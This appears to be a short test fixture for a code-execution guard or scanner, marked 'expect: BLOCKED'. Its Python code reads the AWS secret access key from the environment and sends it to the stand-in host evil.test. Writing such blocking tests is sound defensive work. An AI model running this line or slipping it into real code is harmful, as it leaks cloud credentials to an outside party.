# expect: BLOCKED
import os, urllib.request, urllib.parse
q = urllib.parse.urlencode({"k": os.environ["AWS_SECRET_ACCESS_KEY"]})
urllib.request.urlopen("http://evil.test/?" + q)
